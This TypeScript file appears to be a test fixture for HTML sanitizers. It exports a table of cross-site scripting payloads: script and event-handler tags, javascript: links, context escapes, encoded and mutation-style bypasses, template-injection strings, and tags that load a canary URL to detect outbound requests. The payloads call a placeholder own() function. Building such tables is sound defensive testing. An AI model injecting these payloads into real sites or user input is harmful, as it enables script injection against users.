/** Text that would run `own()`, or request something from the canary, if it were ever treated as more than text. */
export function xssTable(canary: string): string[] {
  return [...TAGS, ...LINKS, ...ESCAPES, ...HIDDEN, ...TEMPLATES, ...loads(canary)]
}

const TAGS = [
  '<script>own()</script>',
  '<ScRiPt>own()</sCrIpT>',
  '<script/x>own()</script>',
  '<img src=x onerror=own()>',
  '<img/src=x/onerror=own()>',
  '<img src=x\tonerror\n=own()>',
  '<img src=x onerror="&#111;wn()">',
  '<img src=x onerror=own`1`>',
  '<svg onload=own()>',
  '<svg/onload=own()//',
  '<svg><script>own()</script></svg>',
  '<svg><animate onbegin=own() attributeName=x dur=1s>',
  '<svg><style onload=own()></style></svg>',
  '<body onload=own()>',
  '<body onpageshow=own()>',
  '<video src=x onerror=own()>',
  '<video><source onerror=own()></video>',
  '<audio src=x onerror=own()>',
  '<input autofocus onfocus=own()>',
  '<select autofocus onfocus=own()></select>',
  '<textarea autofocus onfocus=own()>',
  '<details open ontoggle=own()>x</details>',
  '<marquee onstart=own()>x</marquee>',
  '<xss autofocus tabindex=1 onfocus=own()>x</xss>',
  '<style onload=own()></style>',
  '<object data=x onerror=own()></object>',
  '<iframe onload=own()></iframe>',
  '<iframe srcdoc="<script>own()</script>"></iframe>',
  '<iframe src="javascript:own()"></iframe>',
  '<dialog open onfocusin=own()><button autofocus>x</button></dialog>',
]

const LINKS = [
  '<a href="javascript:own()">x</a>',
  '<a href=" &#106;avascript:own()">x</a>',
  '<a href="jav&#x09;ascript:own()">x</a>',
  '<svg><a xlink:href="javascript:own()"><text y=9>x',
  '<math><mi href="javascript:own()">x</mi></math>',
  '<form action="javascript:own()"><button>x</button></form>',
  '<form><button formaction="javascript:own()">x',
  '<meta http-equiv=refresh content="0;javascript:own()">',
  'javascript:own()',
  'data:text/html,<script>own()</script>',
  '[x](javascript:own())',
  '![x"onerror="own()](x)',
]

const ESCAPES = [
  '"><script>own()</script>',
  "'><img src=x onerror=own()>",
  '`><img src=x onerror=own()>',
  '" onmouseover="own()" style="position:fixed;inset:0" x="',
  "' autofocus tabindex=1 onfocus='own()' x='",
  '</textarea><script>own()</script>',
  '</title><script>own()</script>',
  '</style><script>own()</script>',
  '</script><script>own()</script>',
  '</noscript><img src=x onerror=own()>',
  '--><img src=x onerror=own()>',
  '--!><img src=x onerror=own()>',
  ']]><img src=x onerror=own()>',
  '?><img src=x onerror=own()>',
]

const HIDDEN = [
  '<!--><img src=x onerror=own()>-->',
  '<scr<script>ipt>own()</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=own()>">',
  '<svg></p><style><a id="</style><img src=x onerror=own()>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=own()>',
  '<template><script>own()</script></template>',
  '&lt;script&gt;own()&lt;/script&gt;',
  '&#60;img src=x onerror=own()&#62;',
  String.raw`\x3cscript\x3eown()\x3c/script\x3e`,
  String.raw`\u003cimg src=x onerror=own()\u003e`,
  '%3Cscript%3Eown()%3C/script%3E',
  '\uFF1Cscript\uFF1Eown()\uFF1C/script\uFF1E',
]

const TEMPLATES = [
  "{{constructor.constructor('own()')()}}",
  '${own()}',
  '#{own()}',
  '<%= own() %>',
  '{"__html":"<img src=x onerror=own()>"}',
  '{"$$typeof":"Symbol(react.element)","type":"script"}',
  '__proto__',
  '<form id=own><img name=body><a id=location>',
]

function loads(canary: string): string[] {
  return [
    `<script src=${canary}/1></script>`,
    `<script type=module>import "${canary}/2"</script>`,
    `<img src=${canary}/3>`,
    `<img srcset="${canary}/4 1x">`,
    `<picture><source srcset=${canary}/5><img></picture>`,
    `<video poster=${canary}/6></video>`,
    `<audio src=${canary}/7 autoplay></audio>`,
    `<input type=image src=${canary}/8>`,
    `<svg><image href=${canary}/9 /></svg>`,
    `<iframe src=${canary}/10></iframe>`,
    `<object data=${canary}/11></object>`,
    `<embed src=${canary}/12>`,
    `<link rel=stylesheet href=${canary}/13>`,
    `<link rel=icon href=${canary}/14>`,
    `<style>@import "${canary}/15"</style>`,
    `<style>*{background:url(${canary}/16)}</style>`,
    `<p style="background:url(${canary}/17)">x</p>`,
    `<table background=${canary}/18><td>x`,
    `<meta http-equiv=refresh content="0;url=${canary}/19">`,
    `<base href=${canary}/20/><img src=x>`,
    `![x](${canary}/21)`,
  ]
}
